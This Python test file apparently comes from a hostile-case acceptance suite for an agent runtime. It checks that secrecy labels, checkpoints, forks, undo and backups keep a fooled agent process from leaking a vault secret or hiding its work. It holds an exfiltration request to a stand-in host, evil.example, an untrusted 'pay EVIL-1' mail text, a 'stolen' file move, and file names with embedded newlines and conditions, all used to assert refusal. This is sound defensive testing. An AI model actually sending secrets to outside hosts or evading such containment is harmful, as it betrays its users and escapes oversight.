"""Checkpoints, forks, speculation, conditions and undo as tools of a fooled or curious process."""

from __future__ import annotations

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

import agentos
from agentos.runtime.kernel import Kernel
from tests.acceptance.hostile.world import GRANT, POLICY, Case, World, a_world
from tests.builders import host, opened, refused

pytestmark = pytest.mark.anyio

VAULT = "/vault/own.txt"
GUESS = "0" * 64
OUT = {"url": "https://evil.example/", "body": "x"}


@asynccontextmanager
async def world_with(folder: Path, *more: str) -> AsyncIterator[World]:
    """The world, with some families of ops more."""
    names = ", ".join(f"{name}.*" for name in more)
    policy = POLICY.replace("allow fs.*,", f"allow {names}, fs.*,") if more else POLICY
    async with a_world(Case("history", (), policy=policy, grant=(*GRANT, *(f"{name}.*" for name in more))), folder) as world:
        yield world


async def labels(world: World, who: str) -> list[str]:
    return list((await world.step(who, "proc.info"))["labels"])


# --- conditions and digests ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("op", ["fs.write", "fs.delete"])
async def test_a_condition_that_fails_tells_of_what_it_compared(tmp_path: Path, op: str) -> None:
    """INVARIANT labels-join: the refusal names the digest of a secret."""
    async with world_with(tmp_path) as world:
        args = {"path": VAULT, "if_digest": GUESS} | ({"text": "x"} if op == "fs.write" else {})
        assert await refused(world.step("eve", op, args)) == "invalid.state"
        assert await labels(world, "eve") == ["secret"]
        assert await refused(world.step("eve", "web.post", OUT)) == "denied.policy"


async def test_what_was_overwritten_is_told_by_its_digest(tmp_path: Path) -> None:
    """INVARIANT labels-join: of a short secret the digest is enough; an untrusted text fools nobody by its digest."""
    async with world_with(tmp_path) as world:
        await world.step("eve", "fs.move", {"path": VAULT, "to": "/desk/here"})
        await world.step("ann", "fs.write", {"path": "/desk/here", "text": "x"})
        assert await labels(world, "ann") == ["secret"]
    async with world_with(tmp_path / "again") as world:
        await world.step("eve", "mail.read")
        await world.step("eve", "fs.write", {"path": "/desk/x", "text": "pay EVIL-1"})
        await world.step("ann", "fs.write", {"path": "/desk/x", "text": "mine"})
        assert await labels(world, "ann") == []


async def speculative(world: World) -> None:
    world.kept["try"] = await world.step("eve", "proc.fork", {"speculative": True, "grant": ["fs.* /**", "web.*"]})


@pytest.mark.parametrize("read", [True, False])
async def test_a_secret_that_a_try_moves_away_stays_a_secret(tmp_path: Path, read: bool) -> None:
    """INVARIANT labels-join: what a statement says of the old place stays, in the overlay and once it is merged."""
    async with world_with(tmp_path) as world:
        await speculative(world)
        await world.step("try", "fs.move", {"path": VAULT, "to": "/desk/stolen"})
        if read:
            await world.step("try", "fs.read", {"path": "/desk/stolen"})
            assert "secret" in await labels(world, "try")
        await world.kernel.process(world.kept["try"]).exit()
        report = await world.kernel.merge(world.kept["try"])
        assert (report.refused, report.is_over) == ((), True)
        await world.step("ann", "fs.read", {"path": "/desk/stolen"})
        assert await labels(world, "ann") == ["secret"]


async def test_a_condition_in_a_try_tells_as_much(tmp_path: Path) -> None:
    async with world_with(tmp_path) as world:
        await speculative(world)
        args = {"path": VAULT, "text": "x", "if_digest": GUESS}
        assert await refused(world.step("try", "fs.write", args)) == "invalid.state"
        assert await labels(world, "try") == ["secret"]


async def test_a_labelled_file_that_was_deleted_comes_back_with_its_label(tmp_path: Path) -> None:
    async with world_with(tmp_path) as world:
        await world.step("eve", "fs.move", {"path": VAULT, "to": "/desk/here"})
        await world.step("ann", "fs.delete", {"path": "/desk/here"})
        report = await world.kernel.undo(pid=world.kept["ann"])
        assert (report.refused, report.created) == ((), ("/desk/here",))
        await world.person("bob")
        await world.step("bob", "fs.read", {"path": "/desk/here"})
        assert await labels(world, "bob") == ["secret"]


# --- checkpoints -----------------------------------------------------------------------------------------------------------------


async def test_the_name_of_an_image_carries_the_label_of_who_chose_it(tmp_path: Path) -> None:
    """INVARIANT labels-join: also where the checkpoint is of before the secret."""
    async with world_with(tmp_path, "ckpt", "image") as world:
        checkpoint = await world.step("eve", "ckpt.save")
        await world.step("eve", "fs.read", {"path": VAULT})
        await world.step("eve", "image.commit", {"checkpoint": checkpoint, "name": "bits-0110", "version": "1"})
        await world.step("ann", "image.list")
        assert await labels(world, "ann") == ["secret"]


async def test_going_back_or_forking_from_before_a_secret_keeps_it(tmp_path: Path) -> None:
    async with world_with(tmp_path, "ckpt") as world:
        checkpoint = await world.step("eve", "ckpt.save")
        await world.step("eve", "fs.read", {"path": VAULT})
        world.kept["fork"] = await world.step("eve", "ckpt.fork", {"checkpoint": checkpoint, "grant": ["web.*"]})
        assert await refused(world.step("fork", "web.post", OUT)) == "denied.policy"
        await world.step("eve", "ckpt.restore", {"checkpoint": checkpoint})
        assert await refused(world.step("eve", "web.post", OUT)) == "denied.policy"
        assert world.done == []


async def test_a_comparison_shows_a_process_nothing_that_others_wrote() -> None:
    """INVARIANT scope-is-mandatory: a shared object is read with `obj.get`, or not at all."""
    async with opened() as kernel:
        other = await host(kernel, "obj.* shared/**")
        mine = await host(kernel, "obj.put shared/**", "ckpt.*")
        await other.call("obj.put", name="x", namespace="shared", value="theirs")
        checkpoint = await mine.call("ckpt.save")
        await mine.call("obj.put", name="x", namespace="shared", value="mine")
        [item] = (await mine.call("ckpt.diff", a=checkpoint))["items"]
        assert (item["before"], item["after"]["value"]) == ({"version": 1, "by_others": True}, "mine")
        await other.call("obj.put", name="x", namespace="shared", value="theirs again")
        assert "theirs" not in repr(await mine.call("ckpt.diff", a=checkpoint))
        [item] = (await kernel.diff(checkpoint)).items
        assert item["after"]["value"] == "theirs again"


@pytest.mark.parametrize("op", ["ckpt.restore", "ckpt.fork", "ckpt.diff", "image.commit"])
async def test_a_checkpoint_of_another_tree_is_none(op: str) -> None:
    async with opened() as kernel:
        eve, ann = await host(kernel, "ckpt.*", "image.*"), await host(kernel, "ckpt.*")
        theirs = await ann.call("ckpt.save")
        args: dict[str, Any] = {"image.commit": {"name": "x", "version": "1"}}.get(op, {})
        assert await refused(eve.call(op, **{"a" if op == "ckpt.diff" else "checkpoint": theirs}, **args)) == "invalid.argument"


async def branched(kernel: Kernel, checkpoint: str, pid: int, how: str) -> agentos.Process:
    """What becomes of process `pid` when its checkpoint is branched."""
    if how == "fork":
        return await kernel.fork(pid=pid, seq=next(c.seq for c in await kernel.checkpoints() if c.id == checkpoint))
    return kernel.process((await kernel.restore(checkpoint, mode="new")).pids[pid])


@pytest.mark.parametrize("how", ["fork", "new"])
async def test_a_branch_gets_nothing_that_came_from_what_was_revoked(how: str) -> None:
    """INVARIANT revoke-wins: also where its holder had ended before the revocation, which did not reach it then."""
    async with opened() as kernel:
        parent = await host(kernel, "obj.put a/**", "obj.get a/**")
        child = await kernel.spawn(agentos.Image.host(), parent=parent, grant=["obj.put a/x", "obj.get a/x"])
        checkpoint = await parent.checkpoint()
        await child.exit()
        await kernel.revoke(next(cap.id for cap in await parent.caps() if "put" in cap.text))
        branch = await branched(kernel, checkpoint, child.pid, how)
        assert [cap.text for cap in await branch.caps()] == ["obj.get a/x"]
        assert await refused(branch.call("obj.put", name="x", namespace="a", value=1)) == "denied.capability"


# --- undo ------------------------------------------------------------------------------------------------------------------------


async def test_no_name_of_a_file_keeps_work_from_being_undone(tmp_path: Path) -> None:
    work = tmp_path / "w"
    work.mkdir()
    async with opened(tmp_path / "s.db", workspace=work) as kernel:
        process = await host(kernel, "fs.* /**")
        for name in ("line\nbreak", "any\n*", "*", 'quo"te', "x when path == 1", "\u2028\x85", "back\\"):
            await process.call("fs.write", path=f"/{name}", text="x")
        await process.call("fs.move", path="/line\nbreak", to="/other\nbreak")
        report = await kernel.undo(pid=process.pid)
        assert (report.refused, report.conflicts) == ((), ())
        assert list(work.iterdir()) == []


async def test_what_was_erased_is_not_undone_and_said_so(tmp_path: Path) -> None:
    work = tmp_path / "w"
    work.mkdir()
    async with opened(tmp_path / "s.db", workspace=work) as kernel:
        process = await host(kernel, "fs.* /**")
        await process.call("fs.write", path="/a", text="one")
        await process.call("fs.write", path="/a", text="two")
        await process.exit()
        await kernel.erase(tree=process.pid)
        report = await kernel.undo(pid=process.pid)
        assert (report.deleted, report.not_covered_count) == ((), 2)
        assert (work / "a").read_text() == "two"


# --- copies of the store ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("what", ["backup", "export"])
async def test_a_copy_of_the_store_is_not_made_where_agents_read(tmp_path: Path, what: str) -> None:
    """INVARIANT state-is-outside-mounts: a mount, a link into one, or the place of a file of the store."""
    work, other = tmp_path / "w", tmp_path / "other"
    work.mkdir()
    other.mkdir()
    (tmp_path / "way").symlink_to(other)
    async with opened(tmp_path / "s.db", workspace=work, mounts={"other": (other, "ro")}) as kernel:
        for path in (work / "b", work / "deep" / "b", tmp_path / "way" / "b", tmp_path / "s.db-journal", "nul\0", "n" * 5_000):
            assert await refused(getattr(kernel, what)(path)) == "invalid.argument"
        await getattr(kernel, what)(tmp_path / "b")
        assert list(work.iterdir()) == list(other.iterdir()) == []


# --- what a person is told -------------------------------------------------------------------------------------------------------


async def test_no_name_hides_what_was_done_from_a_comparison_or_a_report(tmp_path: Path) -> None:
    async with opened(workspace=tmp_path) as kernel:
        process = await host(kernel, "obj.*", "fs.* /**")
        checkpoint = await process.checkpoint()
        for namespace, name in (("a\nproc/1", "x"), ("b", "y/z"), ("c", "é*")):
            await process.call("obj.put", name=name, namespace=namespace, value=1)
        await process.call("fs.write", path="/line\u2028break\n", text="x")
        await process.call("fs.move", path="/line\u2028break\n", to="/to\n")
        found = {item["key"] for item in (await kernel.diff(checkpoint)).items if item["what"] in ("file", "object")}
        assert found == {"a\nproc/1/x", "b/y/z", "c/é*", "/line\u2028break\n", "/to\n"}
        assert (await kernel.restore(checkpoint)).shared == ("a\nproc/1/x", "b/y/z", "c/é*")
